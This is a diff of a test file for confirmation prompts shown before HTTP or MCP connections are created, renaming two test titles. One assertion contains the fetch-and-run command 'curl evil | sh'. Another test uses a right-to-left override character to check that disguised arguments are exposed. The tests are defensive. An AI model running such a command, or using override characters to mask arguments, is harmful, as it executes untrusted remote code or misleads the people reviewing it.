@@ -13,7 +13,7 @@ describe('confirmations outside the page before a connection is created', () => 
     expect(question?.detail).toContain('    sh\n    -c\n    "curl evil | sh"\nWorking directory: /tmp')
   })
 
-  test('a file or variable that is read is, with where it goes', () => {
+  test('a file or variable is confirmed with where its secret goes', () => {
     const http = confirmConnection({
       name: 'api',
       config: { kind: 'http', url: 'https://api.example.com', auth: { type: 'bearer' } },
@@ -36,7 +36,7 @@ describe('confirmations outside the page before a connection is created', () => 
     expect(confirmSettings({ host: '127.0.0.1', allowed_origins: [], log_days: 7 })).toBeNull()
   })
 
-  test('characters that would hide a part of it are shown', () => {
+  test('shows characters that would hide a part of it', () => {
     const question = confirmConnection({
       name: 'files',
       config: { kind: 'mcp', command: 'echo', args: ['a\u202eb', 'x\nin /home'] },
